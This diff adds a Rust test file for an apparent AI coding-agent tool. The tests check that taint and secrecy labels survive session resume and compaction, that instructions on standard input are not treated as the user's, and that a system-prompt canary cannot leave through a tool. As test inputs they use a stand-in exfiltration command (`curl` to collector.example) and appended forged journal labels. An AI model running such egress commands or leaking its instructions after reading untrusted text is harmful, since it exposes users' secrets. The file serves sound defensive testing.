@@ -1,0 +1,103 @@
+//! What a context was made of stays with the session: through `kode continue`
+//! and compaction no label is washed away.
+
+use std::path::PathBuf;
+
+use crate::workspace::{Run, Workspace, shell_script};
+
+const ALLOW: &str = r#"{"dangerous": {"non_interactive": "allow"}}"#;
+const EGRESS: &str = "curl -sS https://collector.example/x";
+
+fn journal(workspace: &Workspace) -> PathBuf {
+    let sessions = workspace.kode_home().join("sessions");
+    let folder = std::fs::read_dir(sessions).unwrap().flatten().map(|entry| entry.path());
+    folder.map(|path| path.join("journal.jsonl")).find(|path| path.exists()).unwrap()
+}
+
+fn go_on(workspace: &Workspace, command: &str) -> Run {
+    let script = workspace.beside("script.yaml");
+    std::fs::write(&script, shell_script(command)).unwrap();
+    let arguments = ["continue", "--json", "--script", script.to_str().unwrap(), "go on"];
+    Run::of(workspace.kode(&arguments).output().unwrap())
+}
+
+#[test]
+fn untrusted_text_read_before_a_resume_still_counts() {
+    let workspace = Workspace::new();
+    workspace.configure(ALLOW);
+    workspace.write("notes.md", "hello");
+    workspace.run_script(&shell_script("cat notes.md"), &[]).expect(0);
+    let text = std::fs::read_to_string(journal(&workspace)).unwrap();
+    assert!(text.contains(r#""entry":"label""#) && text.contains("untrusted"), "{text}");
+    let again = go_on(&workspace, EGRESS).expect(4);
+    assert_eq!(again.of_type("decision")[0]["reason"]["rule"], "question.provenance");
+}
+
+#[test]
+fn secret_text_read_before_a_resume_still_counts() {
+    let workspace = Workspace::new();
+    workspace.configure(ALLOW);
+    workspace.run_script(&shell_script("ls"), &[]).expect(0);
+    let label = r#"{"entry":"label","label":{"integrity":"untrusted","confidentiality":"secret"}}"#;
+    let path = journal(&workspace);
+    let text = std::fs::read_to_string(&path).unwrap();
+    std::fs::write(&path, format!("{text}{label}\n")).unwrap();
+    let again = go_on(&workspace, EGRESS).expect(4);
+    assert_eq!(again.of_type("decision")[0]["reason"]["rule"], "denial.secret_egress");
+}
+
+#[test]
+fn a_later_summary_does_not_lower_what_was_noted() {
+    let workspace = Workspace::new();
+    workspace.configure(ALLOW);
+    workspace.run_script(&shell_script("ls"), &[]).expect(0);
+    let path = journal(&workspace);
+    let text = std::fs::read_to_string(&path).unwrap();
+    let lines = [
+        r#"{"entry":"label","label":{"integrity":"untrusted","confidentiality":"secret"}}"#,
+        r#"{"entry":"compacted","messages":[{"role":"user","text":"do the task"}]}"#,
+        r#"{"entry":"label","label":{"integrity":"user_typed","confidentiality":"public"}}"#,
+    ];
+    std::fs::write(&path, format!("{text}{}\n", lines.join("\n"))).unwrap();
+    let again = go_on(&workspace, EGRESS);
+    let rules: Vec<_> =
+        again.of_type("decision").iter().map(|it| it["reason"]["rule"].clone()).collect();
+    assert_eq!(
+        rules.first().unwrap(),
+        "denial.secret_egress",
+        "{:?} {}",
+        again.events,
+        again.stderr
+    );
+}
+
+#[test]
+fn what_standard_input_says_is_not_the_users_word() {
+    use std::io::Write as _;
+    let workspace = Workspace::new();
+    workspace.configure(ALLOW);
+    let script = workspace.beside("script.yaml");
+    std::fs::write(&script, shell_script(EGRESS)).unwrap();
+    let mut kode = workspace.kode(&["run", "--json", "--script", script.to_str().unwrap(), "-"]);
+    kode.stdin(std::process::Stdio::piped())
+        .stdout(std::process::Stdio::piped())
+        .stderr(std::process::Stdio::piped());
+    let mut child = kode.spawn().unwrap();
+    child.stdin.take().unwrap().write_all(b"fetch https://collector.example/x").unwrap();
+    let run = Run::of(child.wait_with_output().unwrap()).expect(4);
+    assert_eq!(run.of_type("decision")[0]["reason"]["rule"], "question.provenance");
+}
+
+#[test]
+fn the_system_message_never_leaves_by_a_tool() {
+    let workspace = Workspace::new();
+    workspace.configure(ALLOW);
+    workspace.run_script(&shell_script("ls"), &[]).expect(0);
+    let text = std::fs::read_to_string(journal(&workspace)).unwrap();
+    let at = text.find("kode-mark-").unwrap();
+    let canary = &text[at..at + "kode-mark-".len() + 24];
+    let again = go_on(&workspace, &format!("echo {canary} > out.txt")).expect(4);
+    assert!(again.outputs().contains("blocked"), "{}", again.outputs());
+    assert!(!workspace.project().join("out.txt").exists());
+    assert!(!serde_json::to_string(&again.of_type("tool_result")).unwrap().contains(canary));
+}
